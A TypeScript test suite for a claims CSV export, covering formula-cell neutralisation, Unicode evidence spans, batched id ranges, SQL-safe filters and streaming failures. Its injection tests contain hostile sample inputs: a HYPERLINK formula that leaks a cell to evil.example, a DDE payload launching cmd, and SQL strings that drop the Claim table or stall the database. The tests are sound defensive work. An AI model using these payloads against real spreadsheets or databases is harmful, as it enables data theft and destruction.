// Claim exports under hostile text and hostile networks: formula cells neutralised, a client that leaves stops the
// export, a failure after the 200 is never a clean end.
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import http from 'node:http';
import net from 'node:net';
import { connectClient, poolOf } from '@claimgraph/db';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportEvents, type ExportEnd } from '../src/export/claims-export.js';
import { data } from './testkit/client.js';
import { startTestApi, type TestApi } from './testkit/api.js';

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(async () => api?.stop());

/** Ingests one article through the API. */
async function ingest(input: { text: string; outlet: string; url?: string }) {
  const r = await data(
    api.url,
    `mutation($input: IngestArticleInput!) { ingestArticle(input: $input) { ok { article { id } } error { code message } } }`,
    { input },
  );
  expect(r.ingestArticle.error).toBeNull();
}

/** RFC 4180 fields of a CSV document. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** The next export's end, as the server reports it. */
function nextExportEnd(timeoutMs: number): Promise<ExportEnd> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      unsubscribe(exportEvents.name, on);
      reject(new Error(`no export ended within ${timeoutMs} ms`));
    }, timeoutMs);
    const on = (message: unknown) => {
      clearTimeout(timer);
      unsubscribe(exportEvents.name, on);
      resolve(message as ExportEnd);
    };
    subscribe(exportEvents.name, on);
  });
}

describe('CSV injection', () => {
  test('cells from article text that start with = + - @ tab or CR are prefixed with a quote', async () => {
    const outlet = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    const text = [
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '',
      '=2+5 missiles hit the base on Monday, the ministry said in a statement, according to Reuters.',
      '-1 Officials said the convoy was struck twice, the spokesman told reporters.',
    ].join('\n');
    await ingest({ text, outlet, url: 'https://evil.example/a' });
    const res = await fetch(`${api.base}/export/claims.csv`);
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const header = rows[0]!;
    const hostile = rows.filter((row) => row[header.indexOf('outlet')]!.includes('HYPERLINK'));
    expect(hostile.length).toBeGreaterThan(0);
    for (const row of hostile) {
      expect(row[header.indexOf('outlet')]).toBe(`'${outlet}`);
      expect(row[header.indexOf('attribution_chain')]!.startsWith("'=HYPERLINK")).toBe(true);
    }
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
  });
});

describe('evidence', () => {
  test("each row's evidence is the claim's evidence as the API gives it, also where a span cuts a character beyond U+FFFF", async () => {
    const text =
      'The minister said 😀 "we will win" 𝒜 the war, according to officials. She said 🎉🎉 it was over, the spokesman told reporters.';
    await ingest({ text, outlet: 'Astral Times', url: 'https://astral.example/a' });
    // Spans starting and ending on every unit of the text's first 40: inside pairs, on them, empty ones.
    await api.db.$executeRaw`
      INSERT INTO "Claim" ("workspaceId", "articleId", "sourceId", "extractionKey", text, "evidenceStart", "evidenceEnd", modality)
      SELECT c."workspaceId", c."articleId", c."sourceId", 'span-' || g, 'A claim about spans.', g, g + g % 7, c.modality
        FROM (SELECT * FROM "Claim" WHERE "articleId" = (SELECT id FROM "Article" WHERE url = 'https://astral.example/a') LIMIT 1) c,
             generate_series(0, 40) g`;
    const res = await fetch(
      `${api.base}/export/claims.csv?filter=${encodeURIComponent(JSON.stringify({ text: 'spans' }))}`,
    );
    const [header, ...rows] = parseCsv(await res.text());
    const csv = new Map(rows.map((row) => [row[header!.indexOf('claim_id')]!, row[header!.indexOf('evidence')]!]));
    const api_ = await data(
      api.url,
      `{ claims(filter: { text: "spans" }, first: 100) { edges { node { id evidence { text } } } } }`,
    );
    const expected = new Map<string, string>(
      api_.claims.edges.map((e: { node: { id: string; evidence: { text: string } } }) => [
        e.node.id,
        // As the CSV writes it: UTF-8 (half a surrogate pair becomes U+FFFD), a formula neutralised.
        Buffer.from(e.node.evidence.text)
          .toString()
          .replace(/^[=+\-@\t\r]/, "'$&"),
      ]),
    );
    expect(expected.size).toBe(41);
    expect([...expected.values()].some((e) => e.includes('\uFFFD'))).toBe(true);
    expect(csv).toEqual(expected);
  });
});

describe('id ranges', () => {
  test('an export read in id ranges has every claim once, newest first, also when a range is denser than estimated', async () => {
    await ingest({ text: 'The ministry said the talks would resume, according to officials.', outlet: 'Range Times' });
    const [source] = await api.db.$queryRaw<{ id: number }[]>`SELECT id FROM "Source" WHERE name = 'Range Times'`;
    // Older: 100 claims of ~200 KB each (20 MB, more than a batch may hold). Newer: 500 small claims, one per 50 ids,
    // so the first batch sees few claims per id and the next range would take all the large ones at once.
    await api.db
      .$executeRaw`UPDATE "Article" SET body = body || repeat(' padding', 25000) WHERE "sourceId" = ${source!.id}`;
    const insert = (kind: string, n: number, end: string, id: string) =>
      api.db.$executeRawUnsafe(`
        INSERT INTO "Claim" (id, "workspaceId", "articleId", "sourceId", "extractionKey", text, "evidenceStart", "evidenceEnd", modality)
        SELECT ${id}, c."workspaceId", c."articleId", c."sourceId", '${kind}-' || g, 'A claim in a range.', 0, ${end}, c.modality
          FROM (SELECT c.* FROM "Claim" c WHERE c."sourceId" = ${source!.id} LIMIT 1) c JOIN "Article" a ON a.id = c."articleId",
               generate_series(1, ${n}) g`);
    await insert('large', 100, 'length(a.body)', `nextval(pg_get_serial_sequence('"Claim"', 'id'))`);
    await insert('small', 500, '10', `(SELECT max(id) FROM "Claim") + 50 * g`);
    await api.db.$executeRaw`SELECT setval(pg_get_serial_sequence('"Claim"', 'id'), (SELECT max(id) FROM "Claim"))`;
    const copies: string[] = [];
    const onStatement = (m: unknown) => {
      if ((m as { text: string }).text.startsWith('COPY')) copies.push((m as { text: string }).text);
    };
    subscribe('claimgraph:direct-sql', onStatement);
    const res = await fetch(
      `${api.base}/export/claims.csv?sourceId=${Buffer.from(`Source:${source!.id}`).toString('base64')}`,
    );
    const text = await res.text();
    unsubscribe('claimgraph:direct-sql', onStatement);
    const ids = parseCsv(text)
      .slice(1)
      .map((row) => Number(Buffer.from(row[0]!, 'base64').toString().slice('Claim:'.length)));
    const expected = await api.db.$queryRaw<
      { id: number }[]
    >`SELECT id FROM "Claim" WHERE "sourceId" = ${source!.id} ORDER BY id DESC`;
    expect(ids).toEqual(expected.map((e) => e.id));
    // The first batch, the range that held too much and was cancelled, then narrower ranges.
    expect(copies.length).toBeGreaterThan(3);
  });
});

describe('filters written into the COPY statement', () => {
  test('hostile filter values select what the claims query selects, and run nothing of their own', async () => {
    const text =
      "Ronan O'Neill said the convoy was struck twice, the ministry told reporters. " +
      'Officials said "two missiles" hit the depot, according to the agency.';
    await ingest({ text, outlet: "O'Brien \\ Daily", url: 'https://quotes.example/a' });
    const filters = [
      { text: 'convoy\'); DROP TABLE "Claim"; --' },
      { text: "\\'; SELECT pg_sleep(30); --" },
      { text: 'missiles' },
      { actorNames: ["Ronan O'Neill", 'x", "y', '{a,b}', "\\'", 'NULL'] },
      { biasLabels: [{ scheme: 'lean\'); DROP TABLE "Claim"; --', value: '\\"}' }] },
      { actorNames: ["O'Neill"], text: "struck -'drone'" },
    ];
    let nonEmpty = 0;
    for (const filter of filters) {
      const res = await fetch(`${api.base}/export/claims.csv?filter=${encodeURIComponent(JSON.stringify(filter))}`);
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body).not.toContain('incomplete');
      const csvIds = parseCsv(body)
        .slice(1)
        .map((row) => row[0])
        .sort();
      const viaApi = await data(
        api.url,
        `query($f: ClaimFilter) { claims(filter: $f, first: 100) { edges { node { id } } } }`,
        {
          f: filter,
        },
      );
      const apiIds = viaApi.claims.edges.map((e: { node: { id: string } }) => e.node.id).sort();
      expect(csvIds).toEqual(apiIds);
      if (csvIds.length) nonEmpty++;
    }
    expect(nonEmpty).toBeGreaterThanOrEqual(2);
    const left = await api.db.$queryRaw<{ n: bigint }[]>`SELECT count(*) AS n FROM "Claim"`;
    expect(Number(left[0]!.n)).toBeGreaterThan(0);
  });
});

describe('streaming faults', () => {
  const CLAIMS = 1100;
  beforeAll(async () => {
    // ~20 MB of claims: more than the first batch's 500 rows and far more than the socket buffers hold. Each claim's
    // evidence is its article's whole (padded) body, so the rows are large without large claim texts to index.
    const [one] = await api.db.$queryRaw<
      { id: number; articleId: number }[]
    >`SELECT id, "articleId" FROM "Claim" ORDER BY id LIMIT 1`;
    await api.db.$executeRaw`UPDATE "Article" SET body = body || repeat(' padding', 2500) WHERE id = ${one!.articleId}`;
    await api.db.$executeRaw`
      INSERT INTO "Claim" ("workspaceId", "articleId", "sourceId", "extractionKey", text, "evidenceStart", "evidenceEnd", modality)
      SELECT c."workspaceId", c."articleId", c."sourceId", 'bulk-' || g, 'A claim for the export test.', 0, length(a.body), c.modality
        FROM "Claim" c JOIN "Article" a ON a.id = c."articleId", generate_series(1, ${CLAIMS}::int) g WHERE c.id = ${one!.id}`;
  });

  const busyConnections = () => {
    const pool = poolOf(api.db);
    return pool.totalCount - pool.idleCount;
  };

  test('a client that disconnects mid-export stops it at once and nothing holds a database connection', async () => {
    const ended = nextExportEnd(10_000);
    await new Promise<void>((resolve, reject) => {
      const req = http.get(`${api.base}/export/claims.csv`, { agent: false }, (res) => {
        expect(res.statusCode).toBe(200);
        res.once('data', () => {
          req.destroy();
          resolve();
        });
      });
      req.on('error', (err) => (err.message === 'socket hang up' ? undefined : reject(err)));
    });
    const end = await ended;
    expect(end.outcome).toBe('client-gone');
    expect(end.rows).toBeLessThan(CLAIMS);
    const statements = api.statements.count;
    await new Promise((r) => setTimeout(r, 300));
    expect(api.statements.count).toBe(statements);
    expect(busyConnections()).toBe(0);
    const [running] = await api.db.$queryRaw<{ n: number }[]>`
      SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE 'COPY (%' AND state <> 'idle'`;
    expect(running!.n).toBe(0);
  });

  /** Holds the claims' relation table locked, so the export's next batch waits past the statement timeout (5 s in tests). */
  async function lockRelations(): Promise<() => Promise<void>> {
    const client = await connectClient(poolOf(api.db).options.connectionString!);
    await client.query('BEGIN');
    await client.query('LOCK TABLE "ClaimRelation" IN ACCESS EXCLUSIVE MODE');
    return async () => {
      await client.query('ROLLBACK');
      await client.end();
    };
  }

  test('HTTP/1.1: a database failure after the 200 aborts the chunked body instead of ending it cleanly', async () => {
    const ended = nextExportEnd(30_000);
    let unlock: (() => Promise<void>) | null = null;
    const outcome = await new Promise<{ status: number; complete: boolean; tail: string }>((resolve, reject) => {
      http
        .get(`${api.base}/export/claims.csv`, { agent: false }, (res) => {
          res.pause();
          // The first batch fills the socket; the next one is read while the relation table is locked.
          lockRelations().then((u) => {
            unlock = u;
            let tail = '';
            res.on('data', (chunk: Buffer) => (tail = (tail + chunk.toString('utf8')).slice(-400)));
            res.on('end', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
            res.on('error', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
            res.on('close', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
            res.resume();
          }, reject);
        })
        .on('error', reject);
    });
    await (unlock as (() => Promise<void>) | null)?.();
    expect(outcome.status).toBe(200);
    expect(outcome.complete).toBe(false);
    expect((await ended).outcome).toBe('failed');
  });

  test('HTTP/1.0 (body ends with the connection): a failure after the 200 ends with a line saying the file is incomplete', async () => {
    const ended = nextExportEnd(30_000);
    const port = Number(new URL(api.base).port);
    const socket = net.connect(port);
    await new Promise((r) => socket.once('connect', r));
    socket.write(`GET /export/claims.csv HTTP/1.0\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
    let received = '';
    await new Promise<void>((resolve) =>
      socket.once('data', (chunk: Buffer) => ((received += chunk.toString('utf8')), resolve())),
    );
    socket.pause();
    const unlock = await lockRelations();
    const body = await new Promise<string>((resolve) => {
      socket.on('data', (chunk: Buffer) => (received += chunk.toString('utf8')));
      socket.on('close', () => resolve(received));
      socket.resume();
    });
    await unlock();
    expect(body.startsWith('HTTP/1.1 200')).toBe(true);
    expect(body).not.toMatch(/transfer-encoding: chunked/i);
    const end = await ended;
    expect(end.outcome).toBe('failed');
    expect(body.trimEnd().split('\r\n').at(-1)).toBe(
      `"# EXPORT INCOMPLETE: the export failed after ${end.rows} claims; this file is not the full result. Try again."`,
    );
  });
});
